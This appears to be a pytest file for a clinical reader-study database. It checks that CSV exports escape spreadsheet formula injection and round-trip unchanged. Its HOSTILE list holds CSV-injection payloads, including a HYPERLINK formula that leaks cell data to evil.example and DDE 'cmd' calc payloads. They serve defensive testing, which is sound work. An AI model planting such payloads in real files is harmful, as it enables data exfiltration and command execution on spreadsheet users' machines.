"""Hostile cells: every exported cell opens as text in a spreadsheet and re-imports unchanged."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

import db
from db.csv_io import READ_CSV_COLUMNS
from db.spreadsheet import FORMULA_STARTS, escape_cell, unescape_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain 'quote' inside",
    "-",
]


@pytest.mark.parametrize("text", HOSTILE + ["", "'", "ok", "=", "a=b"])
def test_escape_then_unescape_is_the_identity(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS)


def _open_as_a_spreadsheet(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _hostile_study(path):
    conn = db.connect(path)
    patients = [f"{text} #{i}" if text.strip() else f"case{i}" for i, text in enumerate(HOSTILE)]
    db.upsert_cases(conn, [{"patient_id": p, "label": "SCC"} for p in patients])
    cases = [db.case_key("internal", p) for p in patients]
    study = db.create_study(conn, name="=cmd|' /C calc'!A0", case_ids=cases)
    readers = [db.add_reader(conn, study, f"{text} R{i}")[0] for i, text in enumerate(HOSTILE)]
    for reader in readers:
        for case in cases:
            db.submit_read(
                conn, study_id=study, reader_id=reader, case_id=case, arm="unaided",
                label="AC", confidences=(-0.0, 1.0, 0.0), shown_at=None,
            )  # fmt: skip
    run = db.create_run(
        conn, model="resnet18", mode="features", config={}, seed=0, data_hash="h", device="cpu",
        weights=None, code_version=None, packages={}, run_id="r-hostile",
    )  # fmt: skip
    db.save_predictions(
        conn, run, 0, [{"case_id": c, "p_SCC": 0.5, "p_AC": 0.25, "p_ASC": 0.25} for c in cases]
    )
    return conn, study, run


def _reads(conn, study) -> pd.DataFrame:
    frame = db.reads_frame(conn, study)[list(READ_CSV_COLUMNS)]
    return frame.sort_values(["reader_id", "case_id"], ignore_index=True)


def test_hostile_reads_open_as_text_and_reimport_unchanged(tmp_path):
    conn, study, _ = _hostile_study(tmp_path / "a.db")
    out = db.export_reads_csv(conn, study, tmp_path / "reads.csv")
    cells = [cell for row in _open_as_a_spreadsheet(out) for cell in row]
    assert len(cells) > 100
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    before = _reads(conn, study)
    assert db.import_reads_csv(conn, study, out) == len(before)
    after = _reads(conn, study)
    pd.testing.assert_frame_equal(after, before, check_exact=True)
    # the names are kept as stored (the db trims outer white space), formulas included
    hostile = {f"{t} R{i}".strip() for i, t in enumerate(HOSTILE)}
    assert set(after["display_name"]) == hostile


def test_hostile_predictions_open_as_text_and_reimport_unchanged(tmp_path):
    conn, _, run = _hostile_study(tmp_path / "a.db")
    out = db.export_predictions_csv(conn, [run], tmp_path / "pred.csv")
    cells = [cell for row in _open_as_a_spreadsheet(out) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    target, *_ = _hostile_study(tmp_path / "b.db")
    assert db.import_predictions_csv(target, out) == len(HOSTILE)
    pd.testing.assert_frame_equal(
        db.predictions_frame(target, run).drop(columns="display_id"),
        db.predictions_frame(conn, run).drop(columns="display_id"),
        check_exact=True,
    )


def test_a_field_over_the_csv_limit_is_one_clear_import_error(tmp_path):
    conn, study, _ = _hostile_study(tmp_path / "a.db")
    path = tmp_path / "huge.csv"
    path.write_text("reader_id,case_id,arm,label\n1,case0,unaided," + "A" * 200_000 + "\n")
    with pytest.raises(db.ImportValidationError, match=r"line \d+: field larger than field limit"):
        db.import_reads_csv(conn, study, path)
